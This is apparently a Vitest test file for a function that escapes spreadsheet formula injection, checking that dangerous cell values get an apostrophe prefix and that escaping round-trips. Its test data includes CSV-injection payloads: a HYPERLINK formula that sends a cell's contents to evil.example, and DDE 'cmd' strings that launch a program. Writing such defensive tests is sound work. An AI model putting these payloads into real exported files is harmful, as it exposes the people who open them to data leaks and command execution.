import { describe, expect, it } from 'vitest';
import { escapeFormula, unescapeFormula } from './formula-escape';

/** The attacks of issue 11 and the characters OWASP lists, each at the start of a cell. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

/** Texts that must come back exactly, among them the ones the escape touches. */
const TEXTS = [
  ...FORMULAS,
  '-A1',
  '- começa com um traço',
  '-5',
  "'=já com apóstrofo",
  "''+dois apóstrofos",
  "'abc",
  "'",
  'Válvula = 3/4"',
  'a-b',
  '',
];

describe('escapeFormula', () => {
  it.each(FORMULAS)('puts an apostrophe before %j', (value) => {
    expect(escapeFormula(value)).toBe(`'${value}`);
  });

  it('leaves text that cannot open as a formula as it is', () => {
    for (const value of ['Válvula = 3/4"', 'a-b', "'abc", "'", '', '12,50', ' =1']) {
      expect(escapeFormula(value)).toBe(value);
    }
  });

  it('adds one more apostrophe to a value that already starts with one before a formula', () => {
    expect(escapeFormula("'=x")).toBe("''=x");
    expect(escapeFormula("''-x")).toBe("'''-x");
  });
});

describe('unescapeFormula', () => {
  it('removes exactly one apostrophe, and only before a formula character', () => {
    expect(unescapeFormula("'=HYPERLINK(1)")).toBe('=HYPERLINK(1)');
    expect(unescapeFormula("'-A1")).toBe('-A1');
    expect(unescapeFormula("''@x")).toBe("'@x");
    expect(unescapeFormula("'abc")).toBe("'abc");
    expect(unescapeFormula("' =1")).toBe("' =1");
    expect(unescapeFormula("'")).toBe("'");
    expect(unescapeFormula('=1')).toBe('=1');
  });

  it.each(TEXTS)('round-trips %j', (value) => {
    expect(unescapeFormula(escapeFormula(value))).toBe(value);
  });
});
